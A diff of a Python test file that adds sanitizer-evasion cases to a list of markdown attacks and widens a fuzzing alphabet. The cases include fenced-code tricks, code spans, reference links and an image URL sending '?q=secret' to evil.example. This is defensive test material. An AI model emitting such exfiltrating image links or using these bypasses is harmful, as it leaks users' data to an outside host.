@@ -49,6 +49,25 @@ ATTACKS = [
     f"\\\\![x]({EVIL})",
     f"![a ![x]({EVIL})]({KNOWN})",
     f"[![x]({EVIL})]({KNOWN})",
+    # where code begins and ends
+    f" ```\ncode\n```\n![x]({EVIL})",
+    f"   ~~~\ncode\n ~~~\n~~~\ncode\n~~~\n![x]({EVIL})",
+    f"- a\n\n  ```\n  code\n![x]({EVIL})\n\n```\n![x]({EVIL})",
+    f"1. a\n\n   ```\n   code\n  ```\n![x]({EVIL})\n```\n![x]({EVIL})",
+    f"   ```\n    ```\n```\n![x]({EVIL})\n```\n![x]({EVIL})",
+    f"```{'a' * 201}\ncode\n```\n![x]({EVIL})",
+    f"{'`' * 201}\ncode\n{'`' * 201}\n![x]({EVIL})",
+    f"```\n\t```\n```\n![x]({EVIL})",
+    f"```\n```\u00a0\n```\n![x]({EVIL})",
+    f"```\n    ```\n```\n![x]({EVIL})",
+    f"a < b\n```\ncode\n\n```\n![x]({EVIL})",
+    f"```\ncode\r```\r![x]({EVIL})",
+    f"`\r- ![x]({EVIL})`",
+    f"`a\n`![`]({EVIL})",
+    f"``\n``![x]({EVIL})``",
+    f"```|```![x]({EVIL})```",
+    f"[1]:![x]({EVIL})",
+    f"[1]: <img src={EVIL}>",
     "![x](//evil.example/?q=secret)",
     "![x](https:&#x2f;/evil.example/)",
 ]
@@ -125,7 +144,21 @@ def test_an_image_in_html_is_a_link_to_a_source_or_its_words() -> None:
 
 
 MARKS = "![ ]( ) ` `` ```\n ~~~\n <img\tsrc= > <div> <p> </p> <!-- -\t >\t \t [1] [1]: [r]: \\ x | <br> [ ] #\t ' \""
-PIECES = st.sampled_from([*(mark.replace("\t", " ") for mark in MARKS.split(" ")), EVIL, KNOWN, "\n", "\n\n", "    "])
+PIECES = st.sampled_from(
+    [
+        *(mark.replace("\t", " ") for mark in MARKS.split(" ")),
+        EVIL,
+        KNOWN,
+        "\n",
+        "\n\n",
+        "    ",
+        "\r",
+        "```",
+        "  ~~~\n",
+        "\u00a0",
+        f"![x]({EVIL})",
+    ]
+)
 
 
 @given(st.lists(PIECES, max_size=24).map("".join))
